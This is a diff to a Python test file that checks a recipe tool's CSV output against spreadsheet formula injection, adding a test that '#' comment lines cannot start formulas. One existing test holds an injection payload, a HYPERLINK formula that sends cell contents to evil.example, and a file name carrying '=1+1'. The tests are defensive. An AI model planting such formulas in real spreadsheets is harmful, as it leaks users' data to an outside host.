@@ -24,7 +24,7 @@ from synth import catalog
 from synth.audit import validate
 from synth.errors import InputError, ReactionError, RecipeError, SynthError
 from synth.recipe import load, parse
-from synth.render.cells import FORMULA_START, cell
+from synth.render.cells import FORMULA_START, cell, comment
 from synth.units import AMBIGUOUS, Q_, parse as parse_quantity
 
 
@@ -396,6 +396,14 @@ def test_no_cell_starts_a_formula(text):
     assert not out.startswith(FORMULA_START) and out.lstrip("'") in (text, text[1:]) and out.endswith(text)
 
 
+@given(st.text(max_size=40))
+def test_no_comment_line_holds_a_formula(text):
+    """A ``#`` provenance line stays one line, and no cell a spreadsheet splits it into starts a formula."""
+    line = comment(text)
+    assert line.startswith("# ") and line.count("\n") == 1 and line.endswith("\n") and len(line.splitlines()) == 1
+    assert not any(c.startswith(FORMULA_START) for c in next(csv.reader([line])))
+
+
 def test_sheet_csv_neutralises_recipe_text(capsys, tmp_path):
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     path = recipe_file(tmp_path, AMPSI.replace('grade: {text: "powder, 200 mesh"', f"grade: {{text: '{evil}'"))
@@ -407,11 +415,10 @@ def test_sheet_csv_neutralises_recipe_text(capsys, tmp_path):
 
 
 def _text_cells_are_inert(path) -> list[list[str]]:
-    """The rows of a CSV file, after checking that every cell is a number, empty, or text that starts no formula,
-    and that each ``#`` line is one cell."""
+    """The rows of a CSV file, after checking that every cell (those a spreadsheet splits the ``#`` lines into
+    too) is a number, empty, or text that starts no formula."""
     rows = list(csv.reader(open(path, encoding="utf-8", newline="")))
     for row in rows:
-        assert not row[0].startswith("#") or len(row) == 1, row
         for c in row:
             try:
                 float(c)
@@ -434,7 +441,7 @@ def test_sweep_and_uncertainty_csv_neutralise_names_and_paths(capsys, tmp_path, 
     rows = _text_cells_are_inert(out)
     header = next(row for row in rows if not row[0].startswith("#"))
     assert any(c.startswith("'@leach.acid.excess") for c in header)
-    assert rows[0][0].startswith("# synth") and "a;=1+1.yaml" in rows[0][0]  # the path's comma would start a cell
+    assert rows[0][0].startswith("# synth") and rows[0][1].startswith("'=1+1.yaml (sha256 ")  # the path's comma
 
 
 # 9. Messages -----------------------------------------------------------------------------------------------
